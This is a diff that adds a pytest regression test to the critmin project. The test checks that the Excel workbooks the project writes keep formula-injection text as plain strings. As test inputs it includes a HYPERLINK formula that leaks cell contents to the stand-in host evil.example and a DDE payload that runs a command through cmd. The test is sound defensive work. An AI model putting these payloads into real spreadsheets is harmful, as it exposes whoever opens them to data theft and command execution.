@@ -128,3 +128,27 @@ def test_reports_are_typeset_for_a_ministry(plan_dir: Path):
     assert wb["scenarios"].cell(row=2, column=head.index("expected_loss_usd") + 1).number_format == "$#,##0"
     page = (plan_dir / "plan.html").read_text()
     assert ">nan<" not in page and "<a href='http" in page
+
+
+def test_no_workbook_critmin_writes_holds_a_live_formula(plan_dir: Path):
+    """Issue 14 finding 4: a project named =HYPERLINK(...) became a live formula in another organisation's
+    plan.xlsx. Every workbook critmin writes keeps such text as text."""
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from critmin.output import xlsx_bytes
+    from critmin.report.writers import xlsx_plan
+
+    evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0", "http://evil.example"]
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"t": pd.DataFrame({"name": evil})})))
+    cells = [c for row in book["t"].iter_rows(min_row=2) for c in row]
+    assert [c.value for c in cells] == evil and all(c.data_type == "s" for c in cells)
+    plan = json.loads((plan_dir / "plan.json").read_text())
+    plan["portfolio"]["selected"][0]["name"] = evil[0]
+    plan["deliveries"]["allocation"][0]["buyer"] = evil[1]
+    wb = openpyxl.load_workbook(io.BytesIO(xlsx_plan(plan)))
+    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
